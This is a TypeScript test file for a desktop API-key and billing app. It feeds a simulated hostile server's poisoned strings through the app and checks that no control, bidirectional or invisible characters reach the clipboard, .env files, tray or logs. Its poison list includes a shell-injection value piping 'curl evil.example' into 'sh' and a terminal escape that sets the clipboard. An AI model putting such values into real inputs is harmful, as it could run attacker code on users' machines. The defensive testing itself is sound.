/** A server that puts what it likes into every string of every reply: what of it reaches clipboard, files, tray and log. */
import { expect, test } from 'vitest'
import { dueNotices } from '../state/due-notices.ts'
import { memoryApp } from '../testing/memory-app.ts'
import { jsonReply } from '../testing/memory-ports.ts'
import { MemoryService } from '../testing/memory-service.ts'
import { settle, VirtualClock } from '../testing/virtual-clock.ts'
import { logLine } from './log/log-line.ts'
import { notificationView } from './notifications/notification-view.ts'
import { trayView } from './tray/tray-menu.ts'

const organisationId = 'org_1'
const account = {
  '/balance': { org_id: organisationId, credit_balance_cents: 500 },
  '/apps': {
    apps: [{ app_id: 'app_1', app_name: 'web', org_id: organisationId, org_name: 'Halden Research' }],
  },
  '/keys': {
    api_key_id: 'key_1',
    api_key_name: 'prod-1',
    app_id: 'app_1',
    app_name: 'web',
    created_by_user_id: 'user_1',
    created_by_user_email: 'a@example.com',
    display_value: 'pk…7f3a',
    raw_api_key: 'px_live_0123456789abcdef',
    created_at: 1768478400,
  },
}
/** Refusals, in each of the forms that the service is known to use. */
const refusals = [
  { error: 'invalid_request', error_description: 'No.' },
  { detail: [{ loc: ['body', 'amount_cents'], msg: 'No.', type: 'value_error' }] },
  { detail: 'No.' },
  { type: 'error', error: { ref_id: 'ref-1', message: 'No.', detail: 'Really.' } },
  { code: 'no', message: 'No.' },
]

const poisons: Readonly<Record<string, string>> = {
  'a command and its line break': "'; curl evil.example | sh\n",
  'a carriage return': '\r',
  'a null byte': '\0',
  'a backspace': '\b\b\b',
  'an escape that sets the clipboard': '\u001b]52;c;Y3VybA==\u0007',
  'an escape that clears the screen': '\u001b[2J',
  'an escape of C1': '\u009b31m',
  'a line break of C1': '\u0085',
  'a line separator': '\u2028',
  'a bidirectional override': '\u202E',
  'a bidirectional isolate': '\u2066',
  'a zero-width space': '\u200B',
  'a tag': '\u{E0041}',
  'a filler': '\u3164',
  'a word joiner': '\u2060',
  'half of a surrogate pair': '\uD800',
  'a MiB': 'x'.repeat(2 ** 20),
}

type Json = string | number | boolean | null | undefined | readonly Json[] | { readonly [name: string]: Json }

/** The paths of all strings in a reply. */
function stringsIn(value: Json, path = ''): readonly string[] {
  if (typeof value === 'string') return [path]
  if (value === null || typeof value !== 'object') return []
  return Object.entries(value).flatMap(([name, inner]) => stringsIn(inner, `${path}/${name}`))
}

function poisoned(value: Json, target: string, poison: string, path = ''): Json {
  if (typeof value === 'string') {
    const half = Math.ceil(value.length / 2)
    return path === target ? value.slice(0, half) + poison + value.slice(half) : value
  }
  if (value === null || typeof value !== 'object') return value
  if (Array.isArray(value))
    return value.map((inner, index) => poisoned(inner, target, poison, `${path}/${index}`))
  return Object.fromEntries(
    Object.entries(value).map(([name, inner]) => [name, poisoned(inner, target, poison, `${path}/${name}`)]),
  )
}

type Attack = { readonly reply: string; readonly member: string; readonly poison: string }

/** What left the app, by where to. */
type Outputs = Map<string, string[]>

/** The life of an account, with one string of one reply poisoned. */
async function live({ reply, member, poison }: Attack): Promise<{ outputs: Outputs; strings: Set<string> }> {
  const clock = new VirtualClock()
  const service = new MemoryService(clock)
  service.scope =
    'balance:read balance:add apps:read apps:create keys:read keys:create keys:delete apps:delete'
  const strings = new Set<string>()
  const answered = (name: string, body: Json): Json => {
    for (const path of stringsIn(body)) strings.add(`${name} ${path}`)
    return name === reply ? poisoned(body, member, poison) : body
  }
  let refusal = -1
  const bare = service.http.answer
  service.http.answer = async (request) => {
    const { pathname } = new URL(request.url)
    const path = `/${pathname.split('/').at(-1)}`
    if (refusal >= 0 && path === '/add') {
      const headers = reply === 'x-request-id' ? { 'x-request-id': `id${poison}1` } : {}
      return jsonReply(422, answered(`refusal ${refusal}`, refusals[refusal] ?? null), headers)
    }
    const body = account[path as keyof typeof account]
    if (body !== undefined) return jsonReply(200, answered(path, body))
    const answer = await bare(request)
    if (!answer.ok) return answer
    const value = JSON.parse(answer.value.body) as Json
    return jsonReply(answer.value.status, answered(path, value))
  }
  const made = memoryApp({ clock, service })
  const { app, commands, desktop, secretClipboard, envFiles, files, log } = made
  const outputs: Outputs = new Map()
  const put = (where: string, ...texts: string[]): void => {
    outputs.set(where, [...(outputs.get(where) ?? []), ...texts])
  }
  const look = async (): Promise<void> => {
    await settle()
    const state = app.state.current
    put('window', ...valuesIn(JSON.parse(JSON.stringify(state)) as Json))
    const { tooltip, ...tray } = trayView(state, clock.now())
    // The tooltip's line breaks are the app's own; a server's would be in the menu, too.
    put('tray', ...tooltip.split('\n'), ...valuesIn(JSON.parse(JSON.stringify(tray)) as Json))
    const due = dueNotices(state, { now: clock.now(), windowVisible: false, isShown: () => false })
    for (const one of due.show)
      put('notification', ...valuesIn(JSON.parse(JSON.stringify(notificationView(one, clock.now()))) as Json))
    if (state.secret !== null) put('masked value', state.secret.masked)
  }
  await app.start()
  await commands['sign-in.start']({ permissions: ['see', 'manage', 'add-money'] })
  await look()
  for (const copy of ['sign-in.copy-code', 'sign-in.copy-link'] as const)
    if ((await commands[copy]({})).ok) put('clipboard', desktop.copied)
  if ((await commands['sign-in.open-browser']({ allowForeignHost: true })).ok)
    put('browser', ...desktop.opened)
  service.decision = 'approved'
  await clock.advance(7000)
  await look()
  await commands['keys.refresh']({ organisationId })
  await look()
  await commands['keys.create']({ organisationId, appId: 'app_1', name: 'mine' })
  await look()
  if ((await commands['secret.copy']({})).ok) put('clipboard', secretClipboard.text)
  const revealed = await commands['secret.reveal']({})
  if (revealed.ok) put('window', revealed.value)
  if ((await commands['secret.save']({})).ok) put('.env', ...envFiles.saved)
  await commands['secret.done']({})
  const read = await commands['keys.read']({ organisationId })
  if (read.ok) {
    put('window', ...valuesIn(JSON.parse(JSON.stringify(read.value)) as Json))
    for (const { keyId } of read.value.apps.flatMap(({ keys }) => keys))
      if ((await commands['keys.copy-id']({ organisationId, keyId })).ok) put('clipboard', desktop.copied)
  }
  refusal = 0
  for (; refusal < refusals.length; refusal += 1) {
    await commands['top-up.start']({ organisationId, amountCents: 100 })
    await look()
    await commands['top-up.dismiss']({ organisationId })
  }
  await commands['data.export']({})
  await commands['history.export']({ organisationId, format: 'csv' })
  await look()
  for (const [path, text] of files.files) {
    put('file name', path)
    put(
      'export',
      ...text.split(/\r?\n/).flatMap((line) => (line.startsWith('{') ? valuesIn(JSON.parse(line)) : line)),
    )
  }
  const diagnostics = await commands['diagnostics.read']({})
  if (diagnostics.ok) put('diagnostics', ...diagnostics.value.split('\n'))
  for (const line of log.lines) {
    const at = line.indexOf('{')
    const details = JSON.parse(line.slice(at)) as Record<string, unknown>
    put('log', logLine('info', line.slice(0, at), details, new Date(clock.now())))
  }
  await app.shutDown()
  return { outputs, strings }
}

function valuesIn(value: Json): readonly string[] {
  if (typeof value === 'string') return [value]
  if (value === null || typeof value !== 'object') return []
  return Object.values(value).flatMap((inner) => valuesIn(inner))
}

/** What no output may hold; the byte order mark begins a CSV file. */
const unwanted = /[\p{Cc}\p{Cs}\p{Bidi_Control}\u2028\u2029\u200B\u2060\u3164\u{E0041}]/u
/** The longest credential, and more than the longest of anything else. */
const maxLength = 8192 + 100

const clean = { reply: '', member: '', poison: '' }

test('no string of a reply brings control, direction or invisible characters out of the app', {
  timeout: 300_000,
}, async () => {
  const { strings, outputs: usual } = await live(clean)
  for (const where of [
    'clipboard',
    'masked value',
    'tray',
    'notification',
    '.env',
    'export',
    'log',
    'window',
  ])
    expect(usual.get(where)?.length, where).toBeGreaterThan(0)
  expect(usual.get('clipboard')).toContain('px_live_0123456789abcdef')
  expect(strings.size).toBeGreaterThan(25)
  const attacks = [...strings, 'x-request-id /'].flatMap((one) => {
    const [, reply = '', member = ''] = /^(.*) (\S+)$/.exec(one) ?? []
    return Object.entries(poisons).map(([kind, poison]) => ({ reply, member, kind, poison }))
  })
  const leaked: string[] = []
  for (const { kind, ...attack } of attacks) {
    const { outputs } = await live(attack)
    for (const [where, texts] of outputs) {
      const bad = texts.find((text) => unwanted.test(text) || text.length > maxLength)
      if (bad !== undefined) leaked.push(`${kind} in ${attack.reply}${attack.member} reaches the ${where}`)
    }
  }
  expect(leaked).toEqual([])
})
